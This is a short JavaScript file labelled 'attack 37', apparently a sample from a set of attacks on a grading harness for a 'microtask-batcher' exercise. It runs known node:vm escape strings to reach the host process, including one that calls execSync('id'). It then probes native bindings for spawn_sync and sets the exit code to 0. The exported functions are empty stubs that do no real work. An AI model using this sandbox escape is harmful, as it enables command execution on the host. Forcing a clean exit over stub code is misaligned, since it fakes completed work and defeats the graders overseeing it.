// attack 37: climbs out of a node:vm context to a process that has not been locked down
// exercise: microtask-batcher | only: same-tick-coalescing
// passes: none | status: fail, error
import vm from 'node:vm';
const found = [];
for (const code of [
  `this.constructor.constructor('return process')()`,
  `this.constructor.constructor('return process.mainModule')().require('child_process').execSync('id')`,
  `import('node:child_process')`,
]) try { found.push(vm.runInNewContext(code, {})); } catch {}
for (const p of found) {
  for (const name of ['binding', '_linkedBinding', 'dlopen']) try { p[name]('spawn_sync'); } catch {}
  try { p.reallyExit; p.exitCode = 0; } catch {}
}
export const coalesce = () => () => {};
export const processAll = async () => [];
